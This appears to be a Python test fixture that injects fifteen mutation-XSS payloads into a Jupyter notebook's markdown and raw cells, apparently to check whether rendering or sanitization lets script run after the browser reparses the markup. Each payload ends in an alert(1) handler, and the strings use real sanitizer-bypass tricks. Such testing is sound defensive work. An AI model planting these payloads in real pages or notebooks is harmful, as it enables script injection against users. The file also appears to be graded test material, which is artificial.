"""Writes markup that is harmless as it stands and runs after a browser has read, written and read it again."""

mutants = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><s><template><s><img src=x onerror=alert(1)>@shadow</s></template></s></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>",
    "<a href='`javascript:alert(1)'><img src='``onerror=alert(1)'>x",
    "<table><a><p><table><b></a><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
)
CELL = f"""\
from IPython.display import HTML, display
for text in {mutants!r}:
    display(HTML(text))
    print(text)
"""
SCALE = "honest"
EXPECTED = 10


def edit(notebook):
    for number, text in enumerate(mutants):
        for kind in ("markdown", "raw"):
            cell = {"cell_type": kind, "id": f"{kind}{number}", "metadata": {}, "source": text}
            notebook["cells"].append(cell)
